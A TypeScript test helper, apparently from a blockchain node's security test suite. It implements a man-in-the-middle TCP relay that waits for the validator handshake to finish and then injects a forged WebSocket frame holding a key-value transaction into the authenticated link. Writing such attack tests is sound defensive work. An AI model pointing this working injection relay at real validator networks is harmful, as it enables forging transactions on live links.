/**
 * Attack: a TCP relay between two validators that injects a forged data frame after the real handshake.
 *
 * The dialing validator's config points its peer at this relay (ATTACKER_HOST:--listen-port); the relay connects on
 * to the real validator (--upstream-port on 127.0.0.1) and copies bytes both ways. In the listener → dialer
 * direction it follows the WebSocket framing (after the HTTP upgrade answer); once that direction carried the two
 * handshake messages (the listener's challenge and its proof, in both the old and the new link protocol), it writes
 * one extra binary WebSocket message into the dialer's stream at a frame boundary: a Quire data frame with one
 * gossip record, a TxBatch holding a KV put of --key = --value. Only the first --inject handshakes relayed are
 * tampered with; later ones are relayed faithfully, so the link can come back.
 *
 * Prints one line per event on stdout ("relay: connection N", "relay: injected N"), which the test reads.
 * Bounded: exits after --max-seconds.
 */
import { randomBytes } from "node:crypto";
import { createServer, connect } from "node:net";
import type { Socket } from "node:net";
import { parseArgs } from "node:util";
import { encodeKvTx, KV_NONCE_BYTES } from "../../../src/chain/app/kvTx.js";
import { FRAME_DATA, FRAME_HEADER_BYTES, RECORD_HEADER_BYTES, writeRecordHeader } from "../../../src/net/framing.js";
import { Priority } from "../../../src/net/transport.js";
import { utf8 } from "../../../src/util/bytes.js";
import { encodeMessage } from "../../../src/wire/codec.js";
import { ATTACKER_HOST } from "../support.js";

const { values } = parseArgs({
  options: {
    "listen-port": { type: "string" },
    "upstream-port": { type: "string" },
    key: { type: "string" },
    value: { type: "string" },
    inject: { type: "string", default: "1" },
    "max-seconds": { type: "string", default: "120" },
  },
  strict: true,
});
const listenPort = Number(values["listen-port"]);
const upstreamPort = Number(values["upstream-port"]);
const injectCount = Number(values.inject);

/** The forged Quire data frame: kind byte, one record (gossip class) holding an encoded TxBatch with one KV put. */
function forgedFrame(): Uint8Array {
  const tx = encodeKvTx({ op: "put", nonce: new Uint8Array(randomBytes(KV_NONCE_BYTES)), key: utf8(values.key!), value: utf8(values.value!) });
  const msg = encodeMessage({ kind: "txBatch", body: { txs: [tx] } });
  const frame = new Uint8Array(FRAME_HEADER_BYTES + RECORD_HEADER_BYTES + msg.length);
  frame[0] = FRAME_DATA;
  writeRecordHeader(frame, FRAME_HEADER_BYTES, msg.length, Priority.Gossip, false);
  frame.set(msg, FRAME_HEADER_BYTES + RECORD_HEADER_BYTES);
  return frame;
}

/** An unmasked binary WebSocket message (server to client), one frame. */
function wsBinary(payload: Uint8Array): Buffer {
  const n = payload.length;
  const head = n < 126 ? Buffer.from([0x82, n]) : n < 0x10000 ? Buffer.from([0x82, 126, n >> 8, n & 0xff]) : Buffer.concat([Buffer.from([0x82, 127]), bigLen(n)]);
  return Buffer.concat([head, payload]);
}

function bigLen(n: number): Buffer {
  const b = Buffer.alloc(8);
  b.writeBigUInt64BE(BigInt(n));
  return b;
}

/**
 * Copies the listener's bytes to the dialer, unit by unit (the HTTP answer, then whole WebSocket frames), calling
 * `afterMessage(k)` after the k-th complete data message. Partial units wait for their rest (bounded by the peer's
 * frame limit; this is a test tool, not a product).
 */
function listenerToDialer(from: Socket, to: Socket, afterMessage: (k: number) => void): void {
  let buf: Buffer = Buffer.alloc(0);
  let httpDone = false;
  let messages = 0;
  from.on("data", (chunk: Buffer) => {
    buf = buf.length === 0 ? chunk : Buffer.concat([buf, chunk]);
    for (;;) {
      if (!httpDone) {
        const end = buf.indexOf("\r\n\r\n");
        if (end < 0) return;
        to.write(buf.subarray(0, end + 4));
        buf = buf.subarray(end + 4);
        httpDone = true;
        continue;
      }
      if (buf.length < 2) return;
      const opcode = buf[0]! & 0x0f;
      const fin = (buf[0]! & 0x80) !== 0;
      let len = buf[1]! & 0x7f;
      let off = 2;
      if (len === 126) {
        if (buf.length < 4) return;
        len = buf.readUInt16BE(2);
        off = 4;
      } else if (len === 127) {
        if (buf.length < 10) return;
        len = Number(buf.readBigUInt64BE(2));
        off = 10;
      }
      if ((buf[1]! & 0x80) !== 0) off += 4;
      if (buf.length < off + len) return;
      to.write(buf.subarray(0, off + len));
      buf = buf.subarray(off + len);
      if (fin && opcode < 8) afterMessage(++messages);
    }
  });
}

let connections = 0;
let injected = 0;
const server = createServer((dialer) => {
  const n = ++connections;
  console.log(`relay: connection ${n}`);
  const listener = connect({ host: "127.0.0.1", port: upstreamPort, localAddress: ATTACKER_HOST });
  const drop = () => {
    dialer.destroy();
    listener.destroy();
  };
  dialer.on("error", drop);
  listener.on("error", drop);
  dialer.on("close", drop);
  listener.on("close", drop);
  dialer.pipe(listener);
  listenerToDialer(listener, dialer, (k) => {
    // Message 2 from the listener is its handshake proof: the link is (about to be) authenticated.
    // (Counted over handshakes that got this far: a dial that found the listener not up yet does not count.)
    if (k === 2 && injected < injectCount) {
      dialer.write(wsBinary(forgedFrame()));
      console.log(`relay: injected ${++injected} (connection ${n})`);
    }
  });
});
server.listen(listenPort, ATTACKER_HOST, () => console.log(`relay: listening ${ATTACKER_HOST}:${listenPort} -> 127.0.0.1:${upstreamPort}`));
setTimeout(() => process.exit(0), Number(values["max-seconds"]) * 1000).unref();
process.on("SIGTERM", () => process.exit(0));
